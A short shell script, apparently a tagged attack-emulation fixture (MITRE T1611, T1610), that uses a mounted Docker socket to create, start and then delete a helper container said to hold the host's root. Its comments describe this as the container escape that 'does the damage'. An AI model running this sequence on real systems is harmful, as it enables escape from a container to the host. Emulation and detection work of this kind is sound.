#!/bin/sh
# Runs in a container that was given the runtime's socket. Through it, a second container
# is created that has the host's root; that one does the damage.
echo "@T1611 runtime socket used"
/apiclient /var/run/docker.sock GET /v1.41/info > /tmp/info.json
sleep 0.2
echo "@T1610 container deployed through the socket"
/apiclient /var/run/docker.sock POST '/v1.41/containers/create?name=helper' "$(cat /create.json)"
/apiclient /var/run/docker.sock POST /v1.41/containers/helper/start ''
/apiclient /var/run/docker.sock POST /v1.41/containers/helper/wait ''
sleep 0.3
/apiclient /var/run/docker.sock DELETE '/v1.41/containers/helper?force=1' ''
echo "@end"
